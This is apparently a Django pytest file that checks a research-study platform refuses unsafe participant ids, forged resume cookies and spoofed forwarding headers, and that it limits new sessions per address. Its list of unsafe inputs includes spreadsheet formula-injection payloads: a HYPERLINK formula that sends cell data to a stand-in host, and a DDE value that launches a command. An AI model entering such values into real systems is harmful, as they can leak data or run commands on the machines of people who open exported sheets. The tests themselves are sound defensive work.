"""Entry to a study: ids checked per source, sessions resumed only with proof, new sessions
per address limited (issue 12, finding 6; annotation/studies/participant_ids.py).

The bugs guarded against: `=HYPERLINK(...)`, NUL, tab-only, CRLF and right-to-left-override
ids were accepted; anyone who knew a participant's PROLIFIC_PID was sent into that
participant's session; and made-up `?participant=` entries from one machine took every free
slot of a study.

The test settings relax the id formats and the per-address limit for the rest of the suite's
hand-made links and bots; these tests set the production defaults explicitly (and check
that they are the defaults)."""
from __future__ import annotations

import io

import pytest
from django.core.cache import cache
from django.core.management import call_command
from django.test import Client

from annotation.models import Dataset, Participant, Study
from annotation.studies.assignment import participant_enter
from annotation.studies.participant_ids import BadEntryLink, resume_cookie_name
from annotation.studies.services import study_create

pytestmark = pytest.mark.django_db

PID = "5f1e2d3c4b5a69788796a5b4"
STUDY = "60aa11bb22cc33dd44ee55ff"
SESSION = "6123456789abcdef01234567"
OTHER_SESSION = "61fedcba9876543210fedcba"
WORKER = "A1B2C3D4E5F6G7"
ASSIGNMENT = "3WETL7AQWT7EXAMPLEASSIGN1D"


@pytest.fixture(autouse=True)
def _no_counts_left(db):
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def strict(settings):
    """The production defaults, read from the base settings module."""
    from config.settings import base

    settings.FRAMELAB_CHECK_PLATFORM_IDS = base.FRAMELAB_CHECK_PLATFORM_IDS
    settings.FRAMELAB_PARTICIPANT_ENTRIES_PER_ADDRESS = base.FRAMELAB_PARTICIPANT_ENTRIES_PER_ADDRESS
    settings.FRAMELAB_PARTICIPANT_ENTRY_WINDOW_SECONDS = base.FRAMELAB_PARTICIPANT_ENTRY_WINDOW_SECONDS
    return settings


def test_the_defaults_check_platform_ids_and_limit_entries():
    from config.settings import base

    assert base.FRAMELAB_CHECK_PLATFORM_IDS is True
    assert base.FRAMELAB_PARTICIPANT_ENTRIES_PER_ADDRESS == 5
    assert base.FRAMELAB_PARTICIPANT_ENTRY_WINDOW_SECONDS == 3600


@pytest.fixture
def study(db):
    call_command("load_demo", no_user=True, stdout=io.StringIO())
    return study_create(dataset=Dataset.objects.get(name="FrameLab demo"), name="ids",
                        base_claims=8, batch_size=6, raters_per_batch=3, seed=2,
                        status=Study.Status.OPEN)


def enter(study, client=None, address="198.51.100.7", **query):
    client = client or Client()
    return client.get(f"/s/{study.pk}/", query, REMOTE_ADDR=address)


def prolific(study, client=None, pid=PID, session=SESSION, **extra):
    return enter(study, client, PROLIFIC_PID=pid, STUDY_ID=STUDY, SESSION_ID=session, **extra)


UNSAFE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+1-2",
    "-2+3",
    "@SUM(A1)",
    "abc\x00def",
    "\t",
    "\t\t",
    " ",
    "line\r\nbreak",
    "\u202eevil",       # right-to-left override
    "zero\u200bwidth",  # a format character
    "x" * 101,
    " padded",
]


@pytest.mark.parametrize("value", UNSAFE)
def test_unsafe_prolific_ids_get_the_bad_link_page(strict, study, value):
    response = prolific(study, pid=value)
    assert response.status_code == 400
    text = response.content.decode()
    assert "This study link is not valid" in text and "What to do" in text
    assert "Go back to Prolific" in text and "PROLIFIC_PID" in text
    assert not Participant.objects.exists()


@pytest.mark.parametrize("value", UNSAFE)
def test_unsafe_ids_are_refused_even_with_platform_formats_off(settings, study, value):
    settings.FRAMELAB_CHECK_PLATFORM_IDS = False
    assert enter(study, participant=value).status_code == 400
    assert enter(study, workerId=value, assignmentId="A1").status_code == 400
    assert prolific(study, pid=value, session="X").status_code == 400
    assert not Participant.objects.exists()


@pytest.mark.parametrize("pid", ["P1", PID + "0", PID[:-1], "g" * 24, PID.replace("5", " ")])
def test_prolific_ids_must_be_24_hexadecimal_characters(strict, study, pid):
    assert prolific(study, pid=pid).status_code == 400
    assert not Participant.objects.exists()


@pytest.mark.parametrize("missing", ["SESSION_ID", "STUDY_ID"])
def test_a_prolific_link_without_its_session_or_study_id_is_not_valid(strict, study, missing):
    query = {"PROLIFIC_PID": PID, "STUDY_ID": STUDY, "SESSION_ID": SESSION}
    del query[missing]
    response = enter(study, **query)
    assert response.status_code == 400 and missing.encode() in response.content


def test_a_real_prolific_entry_starts_a_session(strict, study):
    response = prolific(study)
    assert response.status_code == 302
    participant = Participant.objects.get()
    assert (participant.external_id, participant.source, participant.platform_session_id) == \
        (PID, "prolific", SESSION)
    assert participant.token in response["Location"]


def test_mturk_ids_are_checked(strict, study):
    assert enter(study, workerId="w1", assignmentId=ASSIGNMENT).status_code == 400
    assert enter(study, workerId=WORKER).status_code == 400  # no assignment
    assert enter(study, workerId=WORKER, assignmentId=ASSIGNMENT, hitId="3HIT0123456789").status_code == 302
    assert Participant.objects.get().source == "mturk"


def test_a_typed_id_that_is_not_safe_is_asked_for_again(strict, study):
    response = enter(study, participant="=1+1")
    assert response.status_code == 400
    assert b'name="participant"' in response.content and b"formula" in response.content
    assert enter(study, participant="lab-7").status_code == 302


def test_the_service_refuses_unsafe_ids_too(study):
    with pytest.raises(BadEntryLink):
        participant_enter(study=study, external_id="=cmd|' /C calc'!A0")
    assert not Participant.objects.exists()


# --- Resuming -------------------------------------------------------------------------------

def _token(response) -> str:
    assert response.status_code == 302, response.content
    return response["Location"].split("/p/")[1].split("/")[0]


def test_knowing_a_prolific_id_is_not_enough_to_enter_its_session(strict, study):
    token = _token(prolific(study))
    # Someone else, elsewhere, with the same PROLIFIC_PID and another (or no) SESSION_ID.
    for session in (OTHER_SESSION,):
        refused = prolific(study, session=session)
        assert refused.status_code == 403
        assert b"already started" in refused.content and b"What to do" in refused.content
        assert token.encode() not in refused.content
    assert Participant.objects.count() == 1


def test_the_same_prolific_session_resumes_from_any_browser(strict, study):
    token = _token(prolific(study))
    assert _token(prolific(study)) == token  # a new browser, the same SESSION_ID


def test_the_browser_that_started_resumes_with_its_cookie(strict, study):
    first = Client()
    token = _token(prolific(study, first))
    cookie = first.cookies[resume_cookie_name(study.pk)]
    assert cookie["httponly"] and cookie["path"] == f"/s/{study.pk}/" and cookie["samesite"] == "Lax"
    assert _token(prolific(study, first, session=OTHER_SESSION)) == token


def test_generic_ids_resume_only_in_the_browser_that_started(strict, study):
    first = Client()
    token = _token(enter(study, first, participant="lab-7"))
    assert enter(study, participant="lab-7").status_code == 403
    assert _token(enter(study, first, participant="lab-7")) == token


def test_a_forged_resume_cookie_is_no_proof(strict, study):
    _token(enter(study, participant="lab-7"))
    victim = Participant.objects.get()
    forger = Client()
    forger.cookies[resume_cookie_name(study.pk)] = str(victim.pk)
    assert enter(study, forger, participant="lab-7").status_code == 403
    # A cookie signed for another participant proves nothing either.
    other = Client()
    _token(enter(study, other, participant="lab-8"))
    assert enter(study, other, participant="lab-7").status_code == 403


# --- New sessions per address ---------------------------------------------------------------

def test_made_up_ids_from_one_address_cannot_fill_a_study(strict, study):
    limit = strict.FRAMELAB_PARTICIPANT_ENTRIES_PER_ADDRESS
    for n in range(limit):
        assert enter(study, participant=f"squat-{n}").status_code == 302
    refused = enter(study, participant="squat-more")
    assert refused.status_code == 429
    assert int(refused["Retry-After"]) > 3000
    assert b"try again" in refused.content.lower()
    assert Participant.objects.count() == limit
    # Another address, and the same address for another study, are not held up.
    assert enter(study, address="203.0.113.9", participant="elsewhere").status_code == 302


def test_resuming_does_not_count_and_the_limit_is_per_study(strict, study):
    strict.FRAMELAB_PARTICIPANT_ENTRIES_PER_ADDRESS = 2
    browser = Client()
    token = _token(enter(study, browser, participant="lab-1"))
    _token(enter(study, participant="lab-2"))
    assert enter(study, participant="lab-3").status_code == 429
    assert _token(enter(study, browser, participant="lab-1")) == token
    second = study_create(dataset=study.dataset, name="ids 2", base_claims=8, batch_size=6,
                          raters_per_batch=1, seed=3, status=Study.Status.OPEN)
    assert enter(second, participant="lab-3").status_code == 302


def test_the_limit_counts_ipv6_clients_by_their_64_and_trusts_only_configured_proxies(strict, study):
    strict.FRAMELAB_PARTICIPANT_ENTRIES_PER_ADDRESS = 1
    assert enter(study, address="2001:db8:1:2::10", participant="v6-a").status_code == 302
    assert enter(study, address="2001:db8:1:2::11", participant="v6-b").status_code == 429
    # Without trusted proxies, X-Forwarded-For is the client's own word and is ignored.
    client = Client(HTTP_X_FORWARDED_FOR="192.0.2.1")
    assert enter(study, client, address="198.51.100.1", participant="p-a").status_code == 302
    client = Client(HTTP_X_FORWARDED_FOR="192.0.2.2")
    assert enter(study, client, address="198.51.100.1", participant="p-b").status_code == 429
    # Behind one trusted proxy, the address it appended is the client's.
    strict.FRAMELAB_TRUSTED_PROXIES = 1
    client = Client(HTTP_X_FORWARDED_FOR="192.0.2.3")
    assert enter(study, client, address="10.0.0.1", participant="p-c").status_code == 302


def test_the_limit_can_be_switched_off(strict, study):
    strict.FRAMELAB_PARTICIPANT_ENTRIES_PER_ADDRESS = 0
    for n in range(8):
        assert enter(study, participant=f"lab-{n}").status_code == 302
